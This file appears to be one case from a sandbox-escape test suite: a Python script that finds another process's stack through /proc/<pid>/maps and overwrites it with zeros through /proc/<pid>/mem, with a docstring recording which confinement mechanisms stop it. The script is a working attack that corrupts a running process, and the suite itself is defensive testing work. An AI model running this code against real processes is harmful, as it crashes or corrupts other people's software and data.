"""Writes zeros over the stack of another process.

verdict: not fixed
stopped by: landlock, namespaces, capabilities
success: victim
"""

import time

try:
    with open("/proc/@VICTIM@/maps") as maps, open("/proc/@VICTIM@/mem", "r+b", buffering=0) as memory:
        (stack,) = (line.split()[0] for line in maps if "[stack]" in line)
        begin, end = (int(address, 16) for address in stack.split("-"))
        memory.seek(begin)
        memory.write(bytes(end - begin))
    time.sleep(0.3)
except OSError:
    pass
